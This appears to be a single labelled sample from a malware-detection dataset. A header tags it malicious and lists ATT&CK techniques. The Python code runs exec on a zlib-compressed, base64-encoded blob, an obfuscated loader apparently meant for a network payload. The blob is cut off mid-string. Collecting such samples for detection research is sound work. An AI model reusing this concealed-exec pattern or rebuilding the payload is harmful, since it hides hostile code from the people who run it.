# label: malicious family=encoded techniques=T1027,T1059.006,T1095,T1140,T1571 lines=3
import base64,zlib
exec(zlib.decompress(base64.b64decode("eJztjkEKAjEMRa9SukqgZNqO4KJ4EnGhtcWiJmVSEW/v4FzDt/m8zee1Z5dlGJV8L8OJuj4+SQ+b0zaASSkLc8kDwEY/k6cQZtpbt1tBTEdRur56BKXaHoUF
